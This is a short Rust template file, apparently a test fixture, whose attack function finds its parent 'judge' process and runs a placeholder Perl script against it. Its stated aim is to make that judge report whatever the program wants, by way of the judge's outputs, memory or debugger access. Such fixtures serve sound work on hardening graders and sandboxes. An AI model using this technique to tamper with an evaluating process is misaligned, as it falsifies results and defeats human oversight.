//! Makes its judge say what it wants: through its outputs, its memory, as its debugger.

fn attack() {
    let others = "@OTHERS@";
    let own = std::fs::read_link("/proc/self/ns/pid").unwrap_or_default();
    if others == "all" && (own.as_os_str().is_empty() || own.as_os_str() == "@PID_NAMESPACE@") {
        return tell("sees too many to attack them");
    }
    let judge = std::os::unix::process::parent_id().to_string();
    let mut perl = std::process::Command::new("/usr/bin/perl");
    let status = perl.args(["-e", SCRIPT, &judge, others]).status();
    tell(format_args!("is done with its judge: {status:?}"));
}

const SCRIPT: &str = r####"@SCRIPT@"####;
